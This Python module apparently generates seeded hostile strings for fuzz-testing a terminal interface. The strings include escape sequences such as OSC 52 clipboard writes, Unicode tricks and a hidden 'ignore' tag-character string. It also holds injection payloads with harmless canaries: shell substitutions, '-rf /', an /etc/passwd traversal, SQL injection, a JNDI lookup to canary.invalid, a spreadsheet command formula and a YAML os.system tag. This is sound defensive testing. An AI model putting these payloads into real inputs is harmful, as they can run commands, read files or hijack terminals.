"""Hostile texts: whatever a machine could call itself, its tasks or its troubles, to drive the terminal that shows it.

Each text carries a marker, a word that nothing else says, so that it can be found again on the screen. What must never
be found is what stands around the marker: every escape sequence here holds `CANARY`, as a parameter or in its text, so
that one of them in an output is told from those that the program sends itself.
"""

import base64
from collections.abc import Callable
from random import Random

from msgspec import Struct

CANARY = "4242"
_PAYLOAD = base64.b64encode(b"canary " + CANARY.encode()).decode()
_DIGITS = "0123456789abcdefghijkmnopqrstuvwxy"

Maker = Callable[[Random], str]


class Sample(Struct, frozen=True):
    """A text, the marker in it, and what kind of attack it is. `leads`: the marker stands first."""

    text: str
    marker: str
    kind: str
    leads: bool


def _one(*texts: str) -> Maker:
    return lambda random: random.choice(texts)


def _osc(random: Random) -> str:
    end = random.choice(("\x07", "\x1b\\", "\x9c", ""))
    body = random.choice(
        (
            f"52;c;{_PAYLOAD}",
            f"52;p;{_PAYLOAD}",
            "52;c;?",
            f"0;title {CANARY}",
            f"2;title {CANARY}",
            f"1;icon {CANARY}",
            f"l{CANARY}",
            f"4;{CANARY};rgb:ff/00/00",
            "10;?",
            "11;?",
            f"12;#{CANARY}ff",
            "104",
            f"7;file://{CANARY}/",
            f"9;notify {CANARY}",
            f"777;notify;{CANARY};x",
            f"99;i={CANARY};x",
            f"133;A;{CANARY}",
            f"1337;File=inline=1:{_PAYLOAD}",
            f"22;{CANARY}",
            f"633;P;{CANARY}",
        )
    )
    return random.choice(("\x1b]", "\x9d")) + body + end


def _link(random: Random) -> str:
    return f"\x1b]8;id={CANARY};http://canary.invalid/{random.randrange(99)}\x1b\\click\x1b]8;;\x1b\\"


def _csi(random: Random) -> str:
    begin = random.choice(("\x1b[", "\x1b[", "\x9b"))
    prefix, middle, final = random.choice(
        [("", "", final) for final in "ABCDEFGHIJKLMPSTXZ`abcdefghijklmnqrstu@"]
        + [("?", "", final) for final in "hlnJKrs"]
        + [(">", "", final) for final in "cmnpqu"]
        + [("<", "", "u"), ("=", "", "c"), ("=", "", "u"), ("!", "", "p"), ("", "$", "p"), ("?", "$", "p")]
        + [("", " ", "q"), ("", '"', "p"), ("", "'", "}"), ("", "*", "y"), ("", "$", "r"), ("", "t", "")]
    )
    numbers = ";".join([CANARY, *(str(random.randrange(99)) for _ in range(random.randrange(4)))])
    return f"{begin}{prefix}{numbers}{middle}{final}"


def _string(random: Random) -> str:
    begin = random.choice(("\x1bP", "\x1b_", "\x1b^", "\x1bX", "\x90", "\x9f", "\x9e", "\x98"))
    body = random.choice(
        (
            f"$q{CANARY}m",
            f"+q{CANARY}",
            f"q#0;2;0;0;0~{CANARY}",
            f"Gf=100,a=T;{_PAYLOAD}",
            f"tmux;\x1b\x1b]52;c;{_PAYLOAD}\x07",
        )
    )
    return begin + body + random.choice(("\x1b\\", "\x9c", "\x07", ""))


def _short_escape(random: Random) -> str:
    return "".join(
        "\x1b"
        + random.choice(["c", "7", "8", "D", "E", "H", "M", "N", "O", "Z", "=", ">", "#8", "(0", ")A", "%G", "l", "n"])
        for _ in range(random.randint(1, 3))
    )


def _cut_off(random: Random) -> str:
    return random.choice(
        ("\x1b", "\x1b[", f"\x1b[{CANARY};", "\x1b]52;c;", "\x1bP", "\x1b_", "\x9b", "\x9d0;", "\x1b[?", "\x1b(")
    )


def _c1(random: Random) -> str:
    return "".join(chr(random.randrange(0x80, 0xA0)) for _ in range(random.randint(1, 6)))


def _c0(random: Random) -> str:
    return "".join(chr(random.choice([*range(0x20), 0x7F])) for _ in range(random.randint(1, 8)))


def _bidi(random: Random) -> str:
    return "".join(
        random.choice("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
        + random.choice("abאבع")
        for _ in range(random.randint(1, 6))
    )


def _marks(random: Random) -> str:
    blocks = (
        (0x300, 0x36F),
        (0x20D0, 0x20F0),
        (0xE47, 0xE4E),
        (0x64B, 0x652),
        (0x591, 0x5AF),
        (0x1DC0, 0x1DFF),
        (0xFE20, 0xFE2F),
    )
    low, high = random.choice(blocks)
    return "e" + "".join(chr(random.randint(low, high)) for _ in range(random.choice((1, 4, 60, 400))))


def _unseen(random: Random) -> str:
    pool = "\u200b\u200c\u200d\u2060\u2061\u2064\ufeff\u00ad\u034f\u115f\u1160"
    pool += "\u17b4\u180e\u3164\uffa0\u2800\ufe0f\U000e0100"
    return "".join(random.choice(pool) for _ in range(random.choice((1, 3, 50))))


def _tags(random: Random) -> str:
    return "".join(chr(0xE0000 + ord(char)) for char in f"ignore {CANARY}") + "\U000e007f"


def _wide(random: Random) -> str:
    pool = "漢字ｆｕｌｌ한글ぁあ🂡🀄ﷺ꧅𒐫⸻①■◆αЖ─…“”"
    return "".join(random.choice(pool) for _ in range(random.randint(1, 40)))


def _emoji(random: Random) -> str:
    return random.choice(
        (
            "👩‍👩‍👧‍👦",
            "🏳️‍🌈",
            "🇩🇪🇫🇷",
            "👍🏽",
            "❤️",
            "1️⃣",
            "👨🏿‍🦰",
            "🏴\U000e0067\U000e0062\U000e007f",
            "🧑‍💻" * 9,
            "\U0001f1e6" * 7,
        )
    )


def _private(random: Random) -> str:
    return "".join(
        chr(random.choice((random.randrange(0xE000, 0xF900), random.randrange(0xF0000, 0xFFFFE))))
        for _ in range(random.randint(1, 6))
    )


def _separators(random: Random) -> str:
    return (
        random.choice(
            ("\u2028", "\u2029", "\x85", "\r\n", "\n\n", "\n", "\t\t", "\r", "\x0b", "\x0c", "\x1c\x1d\x1e\x1f")
        )
        + f"forged {CANARY}"
    )


def _surrogates(random: Random) -> str:
    return random.choice(("\ud800", "\udfff", "\udc80\udcff", "\ud83d", "\ude00\ud83d", "\udc1b[2J"))


def _broken_bytes(random: Random) -> str:
    raw = random.choice(
        (
            b"\xff\xfe",
            b"\xc3",
            b"\xe2\x82",
            b"\xf0\x9f\x98",
            b"\xc0\x9b2J",
            b"\xed\xa0\x80",
            b"\x9b2J\x9d0;x\x9c",
            b"\xf4\x90\x80\x80",
        )
    )
    return raw.decode("utf-8", random.choice(("surrogateescape", "replace", "backslashreplace")))


def _not_characters(random: Random) -> str:
    return random.choice(
        ("\ufffe", "\uffff", "\ufdd0", "\U0001ffff", "\U0010ffff", "\ufff9\ufffa\ufffb", "\U0001d173", "\U000e0fff")
    )


_markup = _one(
    "[/red]", "[red]x", "[b]x[/b]", "[@click=app.quit]x[/]", "[@click=app.bell]x[/]",
    "[link=http://canary.invalid]x[/link]",
    "[/]", "[[", "\\[red]", "[", "]", "[$error]x", "[bold red on white blink reverse]", "[#ff0000]", "[/@click]",
    "[!]", "[a=b]",
    "[@click=screen.dismiss()]x", ":warning:", "**x** `y` <b>z</b>",
)  # fmt: skip
_formats = _one(
    "%s%s%n%x", "%(asctime)s", "{}", "{0}", "{0.__class__.__mro__}", "{self}", "${jndi:ldap://canary.invalid/x}",
    "%%", "{{7*7}}",
    "{x!r:>99999999}", "%99999999d", "$PATH", "~root", "\\x1b[2J", "\\033]0;x\\007", "\\u202e", "\\N{BELL}",
)  # fmt: skip
_commands = _one(
    "$(touch canary-4242)", "`touch canary-4242`", "; touch canary-4242", "| touch canary-4242",
    "&& touch canary-4242", "--help",
    "-rf /", "../../../../etc/passwd", "file:///etc/passwd", "http://user:canary-4242@canary.invalid/", "' OR 1=1 --",
)  # fmt: skip
_documents = _one(
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "＝1", "a,b\n=c", '"}', '","x":"', "]]>",
    "<script>alert(4242)</script>",
    "&lt;&#27;", "</svg>", "<!--", "!!python/object/apply:os.system [id]", "*a", "&a", "<<", "---", "# HELP",
    "\u0000", "'", '"', "\\",
)  # fmt: skip


def _long(random: Random) -> str:
    return random.choice("xW漢 \u0301\x1b\u200b-") * random.choice((600, 5_000, 60_000))


def _anything(random: Random) -> str:
    return "".join(chr(random.randrange(0x110000)) for _ in range(random.randint(1, 12)))


MAKERS: dict[str, Maker] = {
    "OSC": _osc, "OSC 8": _link, "CSI": _csi, "DCS, APC, PM, SOS": _string, "ESC": _short_escape,
    "cut off": _cut_off, "C1": _c1,
    "C0": _c0, "bidi": _bidi, "combining": _marks, "zero-width": _unseen, "tags": _tags, "wide": _wide, "emoji": _emoji,
    "private use": _private, "separators": _separators, "surrogates": _surrogates, "broken UTF-8": _broken_bytes,
    "no characters": _not_characters, "markup": _markup, "formats": _formats, "commands": _commands,
    "documents": _documents,
    "long": _long, "anything": _anything,
}  # fmt: skip

MEGABYTE = 1_000_000


class Hostile:
    """An endless source of samples; the same seed gives the same ones."""

    def __init__(self, seed: int, first: int = 0) -> None:
        self._random = Random(seed)
        self._number = first

    def sample(self) -> Sample:
        """The next one. One in 700 has a megabyte."""
        random = self._random
        kind = random.choice(list(MAKERS))
        payload = MAKERS[kind](random)
        if random.random() < 0.15:
            second = random.choice(list(MAKERS))
            kind, payload = f"{kind} + {second}", payload + MAKERS[second](random)
        if random.randrange(700) == 0:
            kind, payload = "a megabyte", (payload or "x") * (MEGABYTE // max(1, len(payload)))
        marker = self._marker()
        leads = random.random() < 0.7
        return Sample(text=marker + payload if leads else payload + marker, marker=marker, kind=kind, leads=leads)

    def _marker(self) -> str:
        number, digits = self._number, ""
        self._number += 1
        for _ in range(4):
            number, digit = divmod(number, len(_DIGITS))
            digits = _DIGITS[digit] + digits
        return f"Z{digits}z"
